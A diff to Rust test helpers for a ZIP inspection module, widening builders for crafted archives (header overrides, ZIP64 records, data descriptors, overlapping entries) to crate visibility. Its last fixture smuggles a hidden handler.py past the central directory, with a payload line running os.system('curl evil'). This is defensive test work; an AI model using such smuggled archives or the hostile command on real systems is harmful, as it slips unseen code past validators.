@@ -14,46 +14,46 @@ use signer::zipcheck::{self, EntryKind, InspectError, Inspected, Rule, ZipError,
 
 /// One entry, with knobs.
 #[derive(Clone)]
-struct E {
-    name: Vec<u8>,
-    data: Vec<u8>,
-    method: u16,
-    flags: u16,
-    external: u32,
-    made_by: u16,
+pub(crate) struct E {
+    pub(crate) name: Vec<u8>,
+    pub(crate) data: Vec<u8>,
+    pub(crate) method: u16,
+    pub(crate) flags: u16,
+    pub(crate) external: u32,
+    pub(crate) made_by: u16,
     /// Compressed bytes instead of the encoded data.
-    compressed: Option<Vec<u8>>,
+    pub(crate) compressed: Option<Vec<u8>>,
     /// Central-directory overrides.
-    crc: Option<u32>,
-    csize: Option<u64>,
-    usize: Option<u64>,
-    offset: Option<u64>,
-    disk: u16,
-    central_extra: Vec<u8>,
+    pub(crate) crc: Option<u32>,
+    pub(crate) csize: Option<u64>,
+    pub(crate) usize: Option<u64>,
+    pub(crate) offset: Option<u64>,
+    pub(crate) disk: u16,
+    pub(crate) central_extra: Vec<u8>,
     /// Write sizes and offset as ZIP64 in the central directory.
-    zip64: bool,
+    pub(crate) zip64: bool,
     /// Replaces the ZIP64 extra field data in the central directory.
-    zip64_extra: Option<Vec<u8>>,
+    pub(crate) zip64_extra: Option<Vec<u8>>,
     /// Local-header overrides.
-    local_name: Option<Vec<u8>>,
-    local_flags: Option<u16>,
-    local_method: Option<u16>,
-    local_crc: Option<u32>,
-    local_csize: Option<u32>,
-    local_usize: Option<u32>,
-    local_extra: Vec<u8>,
+    pub(crate) local_name: Option<Vec<u8>>,
+    pub(crate) local_flags: Option<u16>,
+    pub(crate) local_method: Option<u16>,
+    pub(crate) local_crc: Option<u32>,
+    pub(crate) local_csize: Option<u32>,
+    pub(crate) local_usize: Option<u32>,
+    pub(crate) local_extra: Vec<u8>,
     /// Sizes in the local header as ZIP64 markers with a 16-byte extra field.
-    local_zip64: bool,
+    pub(crate) local_zip64: bool,
     /// Data descriptor: (with signature, its CRC-32 override).
-    descriptor: Option<(bool, Option<u32>)>,
+    pub(crate) descriptor: Option<(bool, Option<u32>)>,
     /// Bytes written after the entry (descriptor included).
-    after: Vec<u8>,
+    pub(crate) after: Vec<u8>,
     /// Write only the central header (the offset must be set): for overlaps.
-    no_local: bool,
+    pub(crate) no_local: bool,
 }
 
 impl E {
-    fn stored(name: &str, data: &[u8]) -> Self {
+    pub(crate) fn stored(name: &str, data: &[u8]) -> Self {
         Self {
             name: name.as_bytes().to_vec(),
             data: data.to_vec(),
@@ -84,30 +84,30 @@ impl E {
         }
     }
 
-    fn deflated(name: &str, data: &[u8]) -> Self {
+    pub(crate) fn deflated(name: &str, data: &[u8]) -> Self {
         Self { method: 8, ..Self::stored(name, data) }
     }
 
-    fn dir(name: &str) -> Self {
+    pub(crate) fn dir(name: &str) -> Self {
         Self { external: (0o040_755 << 16) | 0x10, ..Self::stored(name, b"") }
     }
 
-    fn symlink(name: &str, target: &str) -> Self {
+    pub(crate) fn symlink(name: &str, target: &str) -> Self {
         Self { external: 0o120_777 << 16, ..Self::stored(name, target.as_bytes()) }
     }
 
-    fn raw_name(mut self, name: &[u8]) -> Self {
+    pub(crate) fn raw_name(mut self, name: &[u8]) -> Self {
         self.name = name.to_vec();
         self
     }
 
-    fn with(mut self, f: impl FnOnce(&mut Self)) -> Self {
+    pub(crate) fn with(mut self, f: impl FnOnce(&mut Self)) -> Self {
         f(&mut self);
         self
     }
 
     /// A data descriptor, with or without its signature; the local header leaves zeros.
-    fn streamed(mut self, signature: bool) -> Self {
+    pub(crate) fn streamed(mut self, signature: bool) -> Self {
         self.flags |= 1 << 3;
         self.descriptor = Some((signature, None));
         self
@@ -126,33 +126,33 @@ impl E {
 
 /// A whole archive, with knobs for the end records.
 #[derive(Clone, Default)]
-struct Zip {
-    entries: Vec<E>,
-    prefix: Vec<u8>,
+pub(crate) struct Zip {
+    pub(crate) entries: Vec<E>,
+    pub(crate) prefix: Vec<u8>,
     /// Offsets count the prefix (so the first entry is not at offset 0).
-    prefix_counted: bool,
-    comment: Vec<u8>,
+    pub(crate) prefix_counted: bool,
+    pub(crate) comment: Vec<u8>,
     /// Declared comment length instead of the real one.
-    comment_len: Option<u16>,
-    trailing: Vec<u8>,
+    pub(crate) comment_len: Option<u16>,
+    pub(crate) trailing: Vec<u8>,
     /// Write a ZIP64 end record and locator (and markers in the classic record).
-    zip64_end: bool,
+    pub(crate) zip64_end: bool,
     /// Changes the ZIP64 end record's entry count.
-    zip64_count_delta: u64,
+    pub(crate) zip64_count_delta: u64,
     /// Changes the ZIP64 locator's pointer.
-    zip64_locator_delta: i64,
+    pub(crate) zip64_locator_delta: i64,
     /// End-record overrides.
-    count: Option<u16>,
-    cd_size: Option<u32>,
-    cd_offset: Option<u32>,
-    disk: u16,
+    pub(crate) count: Option<u16>,
+    pub(crate) cd_size: Option<u32>,
+    pub(crate) cd_offset: Option<u32>,
+    pub(crate) disk: u16,
     /// Central directory order, as indices into `entries`.
-    order: Option<Vec<usize>>,
+    pub(crate) order: Option<Vec<usize>>,
     /// Bytes between the last entry and the central directory.
-    before_cd: Vec<u8>,
+    pub(crate) before_cd: Vec<u8>,
 }
 
-fn zip(entries: Vec<E>) -> Zip {
+pub(crate) fn zip(entries: Vec<E>) -> Zip {
     Zip { entries, ..Zip::default() }
 }
 
@@ -176,7 +176,7 @@ fn narrow(x: u64) -> u32 {
 }
 
 /// An extra field: tag, size, data.
-fn extra(tag: u16, data: &[u8]) -> Vec<u8> {
+pub(crate) fn extra(tag: u16, data: &[u8]) -> Vec<u8> {
     let mut v = Vec::new();
     u16le(&mut v, tag);
     u16le(&mut v, data.len() as u16);
@@ -185,12 +185,12 @@ fn extra(tag: u16, data: &[u8]) -> Vec<u8> {
 }
 
 impl Zip {
-    fn with(mut self, f: impl FnOnce(&mut Self)) -> Self {
+    pub(crate) fn with(mut self, f: impl FnOnce(&mut Self)) -> Self {
         f(&mut self);
         self
     }
 
-    fn build(&self) -> Vec<u8> {
+    pub(crate) fn build(&self) -> Vec<u8> {
         let mut out = self.prefix.clone();
         let base = if self.prefix_counted { 0 } else { out.len() as u64 };
         let mut central: Vec<u8> = Vec::new();
@@ -380,7 +380,7 @@ fn accept(z: &Zip) -> Inspected {
     inspected
 }
 
-fn sample() -> Vec<E> {
+pub(crate) fn sample() -> Vec<E> {
     vec![E::dir("src/"), E::deflated("src/main.py", &b"print('hello')\n".repeat(50)), E::stored("README", b"read me")]
 }
 
@@ -976,7 +976,7 @@ fn every_single_byte_change_is_handled_without_panicking() {
 /// (with the right CRC-32 and sizes for the bytes before it) and then a whole local header
 /// and data for `handler.py`. The central directory lists only `a.txt` and `handler.py`;
 /// a streaming reader that ends stored data at the first matching descriptor sees three.
-fn smuggled_handler() -> Zip {
+pub(crate) fn smuggled_handler() -> Zip {
     let decoy = b"harmless text ".to_vec();
     let hidden = b"import os; os.system('curl evil')\n";
     let mut data = decoy.clone();
